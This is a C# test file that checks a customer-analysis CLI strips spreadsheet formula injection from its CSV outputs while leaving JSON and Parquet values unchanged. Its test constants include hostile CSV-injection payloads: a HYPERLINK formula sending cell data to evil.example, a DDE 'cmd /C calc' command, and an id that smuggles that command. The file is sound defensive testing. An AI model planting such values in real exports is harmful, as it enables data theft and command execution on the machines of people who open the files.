using System.Globalization;
using System.Text;
using System.Text.Json;
using DuckDB.NET.Data;

namespace Clientele.Cli.Tests.Output;

/// <summary>
/// Every CSV output (customers, summary, export, the rejects file) neutralises cells a spreadsheet would evaluate, on a
/// real analysis of customers with hostile names; JSON and Parquet keep the original values.
/// </summary>
public sealed class CsvOutputTests : IDisposable
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click me\")";
    private const string Command = "=cmd|' /C calc'!A0";
    private const string Sum = "@SUM(1,2)";
    private const string HostileId = "-2+3+cmd|' /C calc'!A0";

    private readonly CliRun _cli = new();

    private static string Quote(string text) => "\"" + text.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    /// <summary>The demo company, three of its customers renamed to formulas and two customers with formula ids added, analyzed.</summary>
    private void Analysis()
    {
        var demo = _cli.Run("demo", "--no-analyze", "--customers", "500");
        Assert.True(demo.Code == 0, demo.Error);
        var (ids, last) = DemoFacts();
        var customers = new StringBuilder("customer_id,name,industry\n")
            .Append(CultureInfo.InvariantCulture, $"{Quote(ids[0])},{Quote(Hyperlink)},retail\n")
            .Append(CultureInfo.InvariantCulture, $"{Quote(ids[1])},{Quote(Sum)},retail\n")
            .Append(CultureInfo.InvariantCulture, $"{Quote(HostileId)},{Quote(Command)},retail\n")
            .Append(CultureInfo.InvariantCulture, $"\"+1+1\",Plain,retail\n");
        Assert.Equal(0, _cli.Run("import", "customers", _cli.File("hostile-customers.csv", customers.ToString())).Code);
        var orders = new StringBuilder("customer_id,ordered_at,amount,margin\n");
        foreach (var id in new[] { HostileId, "+1+1" })
            for (var k = 1; k <= 4; k++)
                orders.Append(CultureInfo.InvariantCulture, $"{Quote(id)},{last.AddDays(-60 * k):yyyy-MM-dd},{100 + k}.50,-12.5\n");
        Assert.Equal(0, _cli.Run("import", "orders", _cli.File("hostile-orders.csv", orders.ToString())).Code);
        var analyze = _cli.Run("analyze");
        Assert.True(analyze.Code == 0, analyze.Error);
    }

    /// <summary>Two customer ids of the demo and its last order date.</summary>
    private (List<string> Ids, DateOnly Last) DemoFacts()
    {
        using var connection = new DuckDBConnection($"Data Source={_cli.Workspace}");
        connection.Open();
        using var command = connection.CreateCommand();
        command.CommandText = "SELECT customer_id FROM orders GROUP BY customer_id ORDER BY count(*) DESC, customer_id LIMIT 2";
        var ids = new List<string>();
        using (var reader = command.ExecuteReader())
            while (reader.Read()) ids.Add(reader.GetString(0));
        command.CommandText = "SELECT CAST(max(ordered_at) AS DATE) FROM orders";
        return (ids, (DateOnly)command.ExecuteScalar()!);
    }

    /// <summary>Every cell of a CSV text (RFC 4180), unquoted.</summary>
    private static List<string> Cells(string csv)
    {
        var cells = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted && c == '"' && i + 1 < csv.Length && csv[i + 1] == '"') { cell.Append('"'); i++; }
            else if (c == '"') quoted = !quoted;
            else if (!quoted && (c == ',' || c == '\n')) { cells.Add(cell.ToString()); cell.Clear(); }
            else cell.Append(c);
        }
        return cells;
    }

    /// <summary>Each hostile text appears with an apostrophe before it, no cell starts a formula, and a cell starting with '-' is a number.</summary>
    private static void AssertNeutralised(string csv, params string[] hostile)
    {
        var cells = Cells(csv);
        foreach (var text in hostile) Assert.Contains("'" + text, cells);
        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+@\t\r".Contains(c[0], StringComparison.Ordinal));
        Assert.DoesNotContain(cells, c => c.StartsWith('-') && !double.TryParse(c, CultureInfo.InvariantCulture, out _));
    }

    [Fact]
    public void Every_csv_output_of_an_analysis_neutralises_formulas_while_json_and_parquet_keep_them()
    {
        Analysis();
        var (ids, _) = DemoFacts();

        var customers = _cli.Run("customers", "--top", "0", "--format", "csv");
        Assert.Equal(0, customers.Code);
        AssertNeutralised(customers.Out, Hyperlink, Sum, Command, HostileId, "+1+1");
        var json = JsonDocument.Parse(_cli.Run("customers", "--top", "0", "--format", "json").Out).RootElement;
        var names = json.EnumerateArray().ToDictionary(r => r.GetProperty("customer_id").GetString()!, r => r.GetProperty("name").GetString());
        Assert.Equal(Command, names[HostileId]);
        Assert.Equal(Hyperlink, names[ids[0]]);

        var summary = _cli.Run("summary", "--format", "csv");
        Assert.Equal(0, summary.Code);
        AssertNeutralised(summary.Out, HostileId, "+1+1");

        var csv = Path.Combine(_cli.Folder, "all.csv");
        Assert.Equal(0, _cli.Run("export", "--out", csv).Code);
        AssertNeutralised(File.ReadAllText(csv), Hyperlink, Sum, Command, HostileId, "+1+1");
        var parquet = Path.Combine(_cli.Folder, "all.parquet");
        Assert.Equal(0, _cli.Run("export", "--out", parquet).Code);
        using var connection = new DuckDBConnection("Data Source=:memory:");
        connection.Open();
        using var command = connection.CreateCommand();
        command.CommandText = $"SELECT customer_id, name FROM read_parquet('{parquet}')";
        using var reader = command.ExecuteReader();
        var rows = new Dictionary<string, string?>();
        while (reader.Read()) rows[reader.GetString(0)] = reader.IsDBNull(1) ? null : reader.GetString(1);
        Assert.Equal(Command, rows[HostileId]);
        Assert.Equal(Sum, rows[ids[1]]);
        Assert.True(rows.ContainsKey("+1+1"));
    }

    [Fact]
    public void The_rejects_file_neutralises_the_values_it_repeats()
    {
        var file = _cli.File("orders.csv", $"customer_id,ordered_at,amount\nC1,2024-01-05,10\n{Quote(Command)},2024-01-05,=1+1\n");
        var rejects = Path.Combine(_cli.Folder, "rejects.csv");
        Assert.Equal(0, _cli.Run("import", "orders", file, "--skip-bad-rows", "--rejects", rejects).Code);
        var cells = Cells(File.ReadAllText(rejects));
        Assert.Contains("'=1+1", cells);
        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+@\t\r".Contains(c[0], StringComparison.Ordinal));
    }

    public void Dispose() => _cli.Dispose();
}
